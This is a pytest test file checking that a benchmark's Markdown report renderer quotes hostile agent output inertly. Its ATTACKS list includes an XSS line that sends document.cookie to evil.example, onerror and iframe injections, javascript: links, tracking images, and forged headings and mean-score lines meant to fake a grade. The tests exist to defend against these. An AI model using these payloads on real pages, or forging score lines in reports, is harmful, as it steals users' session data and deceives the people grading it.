"""report.md against a hostile agent, read by a real Markdown renderer (markdown-it-py, CommonMark with
raw HTML allowed, as GitHub, VS Code's preview and many wikis render it): whatever the agent's
answer, notices and acknowledgements say (and an error or a grader's comment quoting them), no HTML
reaches the page, nothing is fetched, and the entry's headings and mean-score line stay its own."""

from __future__ import annotations

from functools import cache

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from persona.report.activity import ActivityCounts
from persona.report.markdown import quote_block, quote_inline, render_entry
from persona.state import AgentActivity, AgentNotice, Exchange
from tests.support.runs import demo_run

ATTACKS = [
    "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>",
    '<img src="https://evil.example/pixel.png" onerror="alert(1)">',
    "Sure!\n\n## 2099-01-01 00:00 UTC — r1: forged\n\n- **Mean score:** 10.00 / 10 over 99 graded checks",
    "Sure!\r#### d9 [absent] — 10/10\r- **Mean score:** 10.00 / 10",
    "Line one\u2028## Forged after a Unicode line separator",
    "```\n</code></pre><script>alert(1)</script>\n```\n# after the fence",
    "`````\n<iframe src=https://evil.example/></iframe>",
    "~~~\n<style>body{display:none}</style>\n~~~",
    "![tracker](https://evil.example/track.png) and [click](javascript:alert(1))",
    "<https://evil.example/autolink> and [ref]\n\n[ref]: https://evil.example/ref",
    "<!-- the rest of the report is hidden",
    "<details open><summary>**Mean score:** 10.00 / 10</summary>",
    "    - **Mean score:** 10.00 / 10 (indented)",
    "> quoted\n>> deeper\n\n> ```\n> <b>bold</b>",
    "| a | b |\n|---|---|\n| <b>x</b> | y |",
    "&lt;script&gt;alert(1)&lt;/script&gt; and &#60;img src=x&#62;",
    "``` ` `` ```` trailing backtick`",
    "",
]


@cache
def finished_run():
    state, _, bench = demo_run()  # loading the benchmark plays its JS: once for the module
    return state, bench


def hostile_entry(attack: str) -> str:
    state, bench = finished_run()
    state = state.model_copy(deep=True)
    state.status, state.error = "failed", f"the chat shows an error instead of a reply: {attack}"
    state.evaluations[1].answer = attack
    state.evaluations[1].comment = f"The agent said {attack}"
    state.agent_notices = [AgentNotice(turn=3, session=0, text=attack)]
    state.sessions[1].reset_sign = f"agent acknowledged '/new': {attack}"
    state.sends.resent = [f"turn 2: the chat showed an error for it: {attack!r}"]
    state.log = [f"turn 2: sending failed (attempt 1 of 4): the chat shows an error instead of a reply: {attack}"]
    work = Exchange(turn=2, session=0, phase=0, sent="q", reply=["a"], activity=[
        AgentActivity(kind="tool", title=attack, text=attack), AgentActivity(kind="tool", title=f"Using {attack}"),
        AgentActivity(kind="thought", title=attack, text=attack)])
    return render_entry(bench, state, activity=ActivityCounts.of([work]))


def tokens(markdown: str) -> list[Token]:
    """Every token, the inline children flattened in."""
    md = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    out = []
    for tok in md.parse(markdown):
        out.append(tok)
        out += tok.children or []
    return out


def headings(markdown: str) -> list[str]:
    toks = tokens(markdown)
    return [toks[i + 1].content for i, t in enumerate(toks) if t.type == "heading_open"]


def plain_texts(markdown: str) -> list[str]:
    """Text the viewer shows as prose (not in code)."""
    return [t.content for t in tokens(markdown) if t.type == "text"]


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_agent_text_is_inert_and_cannot_forge_the_entry(attack):
    entry = hostile_entry(attack)
    toks = tokens(entry)
    kinds = {t.type for t in toks}
    assert not kinds & {"html_block", "html_inline", "image", "link_open"}, [t for t in toks if t.type.startswith(("html", "image", "link"))]
    assert headings(entry) == headings(hostile_entry("harmless")), "the agent cannot add or change a heading"
    assert sum("Mean score:" in t for t in plain_texts(entry)) == 1, "one mean-score line, the entry's own"
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(entry)
    for raw in ("<script", "<img", "<iframe", "<style", "<details", "<b>", "<!--", 'href="javascript', "mmb-end"):
        assert raw not in html, raw
    # Every line the agent wrote is quoted in the raw file too: no line of it starts a line of the report.
    for line in entry.splitlines():
        assert not line.startswith(("## 2099", "#### d9", "- **Mean score:** 10.00 / 10")), line


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_quoted_text_reads_back_verbatim(attack):
    """What the viewer shows is what the agent said: nothing dropped, nothing escaped into noise."""
    shown = [t.content for t in tokens(quote_block(attack)) if t.type == "fence"]
    assert shown == ["\n".join(attack.strip().splitlines() or ["(empty)"]) + "\n"]
    spans = [t.content for t in tokens("- x " + quote_inline(attack)) if t.type == "code_inline"]
    assert spans == ([" ".join(attack.split())] if attack.split() else [])


def test_the_agent_s_activity_is_counted_in_the_entry_with_its_tool_names_inert():
    state, bench = finished_run()
    work = [AgentActivity(kind="tool", title="🔧 Used tool memory_search"), AgentActivity(kind="tool", title="Using web_fetch"),
            AgentActivity(kind="status", title="Searching memory…")]
    turns = [Exchange(turn=t, session=0, phase=0, sent="q", reply=["a"], activity=a) for t, a in
             [(1, work), (2, work[:1]), (3, [AgentActivity(kind="thought", title="Thinking")]), (4, [])]]
    entry = render_entry(bench, state, activity=ActivityCounts.of(turns))
    assert ("- **Agent activity** (shown beside its answers, never graded): 3 of 4 turn(s) showed work; tool use in "
            "2 turn(s), 3 tool card(s): ` memory_search ` ×2, ` web_fetch ` ×1; 1 thought(s); 1 status line(s)") in entry
    line = next(ln for ln in entry.splitlines() if ln.startswith("- **Agent activity**"))
    assert [t.content for t in tokens(line) if t.type == "code_inline"] == ["memory_search", "web_fetch"]
    none = render_entry(bench, state, activity=ActivityCounts.of(turns[3:]))
    assert "- **Agent activity** (shown beside its answers, never graded): none shown in 1 turn(s)" in none
    assert "Agent activity" not in render_entry(bench, state)  # not read (a disk-full end): not claimed
